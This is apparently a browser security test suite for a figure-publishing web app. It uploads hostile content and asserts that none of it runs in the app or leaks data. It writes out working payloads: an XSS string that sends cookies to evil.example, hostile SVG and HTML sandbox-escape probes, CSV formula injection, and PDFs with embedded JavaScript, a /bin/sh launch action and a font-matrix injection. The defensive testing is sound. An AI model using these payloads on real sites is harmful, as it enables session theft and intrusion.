import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { pdf } from '../src/pdf.ts';
import { ask as askOn, base64, launch, newPage, setting, signIn } from './app.ts';

const url = setting('PAGES_URL');
const [, , mallory] = JSON.parse(setting('PAGES_ACCOUNTS')) as { username: string; password: string }[];
if (!mallory) throw new Error('PAGES_ACCOUNTS names three accounts');

/** In the app's origin, this would open a dialog, change the page's title and send a request. */
const ATTACK = `alert(1); document.title = 'taken'; new Image().src = 'https://evil.example/?' + document.cookie;`;
const NAME = `"><img src=x onerror="${ATTACK}"><script>${ATTACK}</script>\${7*7}{{7*7}}\u202Egnp.exe`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="${ATTACK}">
  <script>${ATTACK}</script><image href="https://evil.example/pixel.png" width="9" height="9"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${ATTACK}"/></foreignObject>
  <a href="javascript:${ATTACK}"><rect width="400" height="300" fill="teal"/></a></svg>`;
/** A page in the frame that tries attacks. It writes each success where the test reads it. */
const HTML = `<!doctype html><title>frame</title><body><p id="ran">no</p><p id="won"></p><script>
  ran.textContent = 'yes';
  const won = (what) => { document.getElementById('won').textContent += what + ' '; };
  const attempt = (what, act) => { try { if (act()) won(what); } catch {} };
  attempt('cookie', () => document.cookie !== '');
  attempt('parent', () => parent.document.title);
  attempt('storage', () => localStorage.length + sessionStorage.length > 0 || localStorage.getItem('app'));
  attempt('database', () => { const request = indexedDB.open('app'); request.onsuccess = () => won('database opened'); });
  attempt('worker of the app', () => { navigator.serviceWorker.register('${url}/sw.js').then(() => won('service worker'), () => {}); });
  attempt('popup', () => window.open('/account'));
  attempt('top', () => { top.location = 'https://evil.example/'; });
  alert(1);
  fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then((answer) => answer.text()).then((text) => won('api ' + text), () => {});
  fetch('https://evil.example/', { mode: 'no-cors' }).then(() => won('network'), () => {});
  fetch('${url}/runtimes/..%2fapi/v1.4.1/user/', { credentials: 'include' }).then((answer) => { if (answer.ok) won('runtimes'); }, () => {});
  for (const path of ['/runtimes/../api/v1.4.1/user/', '/index.html', '/color-scheme.js'])
    for (const mode of ['cors', 'no-cors'])
      fetch('${url}' + path, { credentials: 'include', mode }).then((answer) => { if (answer.type === 'opaque' || answer.ok) won(path + ' ' + mode); }, () => {});
  for (const path of ['/color-scheme.js', '/api/v1.4.1/user/']) {
    const script = document.createElement('script'); script.onload = () => won('script ' + path); script.src = '${url}' + path; document.head.append(script);
  }
  const inner = "<script>const tell = (what) => parent.postMessage('won ' + what, '*'); try { if (document.cookie || localStorage.length) tell('inner storage'); } catch {} try { tell(top.document.title); } catch {} try { top.location = 'https://evil.example/'; } catch {} fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then(() => tell('inner api'), () => {});<" + "/script>";
  addEventListener('message', ({ data }) => { if (String(data).startsWith('won ')) won(data); });
  for (const address of ['data:text/html,' + encodeURIComponent(inner), '${url}/account', 'https://evil.example/']) {
    const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame);
  }
  document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: inner }));
  const work = "fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then(() => postMessage('api'), () => {}); try { importScripts('${url}/color-scheme.js'); postMessage('script'); } catch {}";
  for (const address of ['data:text/javascript,' + encodeURIComponent(work), URL.createObjectURL(new Blob([work]))])
    try { new Worker(address).onmessage = ({ data }) => won('worker ' + data); } catch {}
  for (let n = 0; n < 500; n++) parent.postMessage({ gofigr: 'problem', kind: 'script', text: n + '<img src=x onerror="parent.taken()">'.repeat(50) }, '*');
  parent.postMessage({ gofigr: 'problem', kind: '__proto__', text: 'x' }, '*');
</script>
<form action="${url}/api/v1.4.1/workspace/" method="post" target="_top"><input name="name" value="taken"></form>
<script>try { document.forms[0].submit(); } catch {}</script></body>`;

let browser: Browser;
let page: Page;
let analysis: string;
let revision: string;
let figure: string;
const dialogs: string[] = [];
const calls: string[] = [];
const ask = (method: string, path: string, body?: object) => askOn(page, method, path, body);

/** Records dialogs, which a page must not open. */
function watch(watched: Page): void {
  watched.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()} on ${watched.url()}`);
    void dialog.dismiss();
  });
}

beforeAll(async () => {
  browser = await launch();
  page = await newPage(browser);
  watch(page);
  await signIn(page, url, mallory.username, mallory.password);
  const [{ api_id: workspace }] = await ask('GET', 'workspace/');
  const make = async (kind: string, body: object): Promise<string> => (await ask('POST', `${kind}/`, body)).api_id;
  analysis = await make('analysis', { name: NAME, description: NAME, workspace });
  figure = await make('figure', { name: NAME, description: NAME, analysis });
  const datum = (type: string, name: string, text: string, metadata: object) => ({
    type,
    name,
    metadata,
    data: base64(text),
  });
  revision = await make('revision', {
    figure,
    metadata: { [NAME]: NAME, html: HTML, constructor: { prototype: { taken: true } } },
    data: [
      datum('image', NAME, SVG, { format: 'svg' }),
      datum('image', 'page', HTML, { format: 'html' }),
      datum('image', 'lie', HTML, { format: 'png' }),
      datum('code', NAME, `${SVG}\n${HTML}`, { language: '"><script>alert(1)</script>', encoding: 'constructor' }),
      datum('code', 'history', JSON.stringify(['', SVG, { a: HTML }]), { format: 'jupyter-history/json' }),
      datum('text', 'pip freeze', `${NAME}==1\n<script>${ATTACK}</script> @ javascript:${ATTACK}\n`, {}),
      datum('text', NAME, HTML, { format: 'html' }),
      datum('dataframe', NAME, `${NAME.replaceAll('"', '""')},b\n=cmd|' /C calc'!A0,<script>${ATTACK}</script>\n`, {
        format: 'pandas/csv',
      }),
      datum('dataframe', 'lie', 'PAR1 not a table', { format: 'pandas/parquet' }),
      datum('file', 'page.html', HTML, { path: `../../${NAME}` }),
      datum('file', 'picture.svg', SVG, {}),
      datum('file', 'code.js', ATTACK, {}),
    ],
  });
  // Requests that a content policy stops never get here. Frames may load what charts load (docs/decisions/0011).
  await page.context().route('https://evil.example/**', (route, request) => {
    if (!request.frame().url().includes('/content/')) calls.push(request.url());
    return route.fulfill({ status: 200, body: 'taken' });
  });
});
afterAll(() => browser?.close());

/** Returns the traces that a successful attack leaves. */
async function traces(): Promise<string[]> {
  const inPage = await page.evaluate(() => [document.title, document.cookie, String(({} as any).taken)]);
  return [...dialogs, ...calls, ...inPage.filter((text) => text === 'taken' || text === 'true')];
}

test('published content never runs in the app, on any page that shows it', async () => {
  const paths = ['/', `/analysis/${analysis}`, `/analysis/${analysis}?tab=activity`, `/figure/${figure}`];
  for (const tab of ['code', 'tables', 'text', 'files', 'metadata']) paths.push(`/revision/${revision}?tab=${tab}`);
  for (const path of paths) {
    await page.goto(url + path);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle');
    for (const summary of await page.getByRole('main').locator('summary').all())
      if (await summary.isVisible()) await summary.click();
    for (const select of await page.getByRole('main').locator('select').all()) {
      for (const option of await select.locator('option').all()) {
        await select.selectOption((await option.getAttribute('value')) ?? '');
        await page.waitForTimeout(150);
      }
    }
    expect(await traces(), path).toEqual([]);
    expect(await page.getByRole('main').locator('script, img[onerror], iframe').count(), path).toBe(0);
  }
});

const text = 'BT /F 24 Tf 10 100 Td (A) Tj ET';
const action = `<< /S /JavaScript /JS (app.alert\\(1\\); ${ATTACK.replaceAll(/([()])/g, '\\\\$1')}) >>`;
const page200 = (content: string) => [{ width: 200, height: 200, content }];
const heavy = '0 0 m 200 200 l S '.repeat(50_000);

/** PDF files that attack their reader. */
const PDFS: Record<string, Buffer> = {
  'scripts at opening, in fields and in pages': pdf(page200(text), {
    catalog: `/OpenAction ${action} /AA << /WC ${action} /WS ${action} >> /Names << /JavaScript << /Names [(x) ${action}] >> >> /AcroForm << /Fields [6 0 R] /XFA (<script>${ATTACK}</script>) >>`,
    extra: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 99 99] /AA << /F ${action} /K ${action} >> >>`,
    ],
  }),
  'links, launches and files': pdf(page200(text), {
    catalog:
      '/OpenAction << /S /URI /URI (https://evil.example/?opened) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>',
  }),
  // As in CVE-2024-4367: the matrix became part of a function's source text.
  'code in the matrix of a font': pdf(page200(text), {
    font: `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [600] /FontMatrix [0.1 0 0 0.1 0 (0\\); ${ATTACK.replaceAll(/([()])/g, '\\\\$1')}//)] >>`,
  }),
  'a page of enormous size': pdf([{ width: 900_000, height: 900_000, content: text }]),
  'pages within themselves': pdf(page200(text), { kids: '2 0 R' }),
  'very many lines': pdf(page200(heavy)),
};

test.each(Object.entries(PDFS))(
  'a PDF with %s harms nothing',
  async (name, bytes) => {
    const one = (await ask('POST', 'figure/', { name, analysis })).api_id;
    const image = { type: 'image', name: 'page', metadata: { format: 'pdf' }, data: bytes.toString('base64') };
    await ask('POST', 'revision/', { figure: one, data: [image] });
    await page.goto(`${url}/figure/${one}`);
    const main = page.getByRole('main');
    await main.locator('canvas[data-drawn]').or(main.getByText('This PDF is damaged')).waitFor();
    await main.locator('[class*=stage]').click();
    await page.keyboard.press('a');
    expect(await traces()).toEqual([]);
    expect(await main.locator('[class*=stage] :is(a, input, iframe, script, object, embed)').count()).toBe(0);
    expect(new URL(page.url()).pathname).toBe(`/figure/${one}`);
    // The page still answers.
    await page.keyboard.press('?');
    await page.getByRole('dialog').getByText('This help').waitFor();
  },
  120_000,
);

test('names are shown as plain text', async () => {
  await page.goto(`${url}/figure/${figure}`);
  expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(NAME);
});

test('interactive figures run without access to the app or its user [14.68]', async () => {
  await page.evaluate(() =>
    ['localStorage', 'sessionStorage'].forEach((name) => (window as any)[name].setItem('app', 'secret')),
  );
  await page.goto(`${url}/figure/${figure}`);
  await page.getByText('page · Interactive', { exact: true }).click();
  const frame = page.getByRole('main').locator('iframe');
  await frame.waitFor();
  const inside = page.frameLocator('main iframe');
  await inside.getByText('yes').waitFor();
  await page.waitForTimeout(1500);
  expect((await inside.locator('#won').innerText()).replace('network', '').trim()).toBe('');
  expect(await traces()).toEqual([]);
  // The page wrote five hundred messages, which are plain text, and few.
  const note = page.getByRole('main').locator('output', { hasText: 'The page in the sandbox reports' });
  await note.waitFor();
  expect(await note.getByRole('listitem').count()).toBeLessThanOrEqual(5);
  expect((await note.innerText()).length).toBeLessThan(2500);
  expect(await note.locator('img').count()).toBe(0);
  expect(new URL(page.url()).pathname).toBe(`/figure/${figure}`);
  const workspaces = await ask('GET', 'workspace/');
  expect(workspaces.map(({ name }: { name: string }) => name)).not.toContain('taken');
});

test('published bytes never run in the app’s origin when their address is opened directly', async () => {
  const { data } = await ask('GET', `revision/${revision}/`);
  expect(data).toHaveLength(12);
  const tab = await page.context().newPage();
  watch(tab);
  for (const { api_id: id, hash, name } of data) {
    for (const query of ['', '?inline=true', `?hash=${hash}&inline=true`]) {
      const address = `${url}/api/v1.4.1/data/${id}/content/${query}`;
      const answer = await tab.request.get(address);
      const headers = answer.headers();
      expect(headers['x-content-type-options'], name).toBe('nosniff');
      const isAttachment = headers['content-disposition']?.startsWith('attachment') === true;
      const isSandboxed = /(^|; ?)sandbox(;|$)/.test(headers['content-security-policy'] ?? '');
      expect(isAttachment || isSandboxed, `${name}${query}`).toBe(true);
      await tab.goto(address).catch(() => undefined); // A download ends the navigation.
      await tab.waitForTimeout(100);
      expect(await tab.title()).not.toBe('taken');
    }
  }
  await tab.close();
  expect(dialogs).toEqual([]);
  expect(calls).toEqual([]);
}, 600_000);

test('the page’s content policy allows scripts from its own files only', async () => {
  const policy = (await page.request.get(url)).headers()['content-security-policy'] ?? '';
  const scripts = policy.split(';').find((directive) => directive.trim().startsWith('script-src'));
  expect(scripts?.trim()).toBe("script-src 'self'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toMatch(/base-uri '(none|self)'/);
});
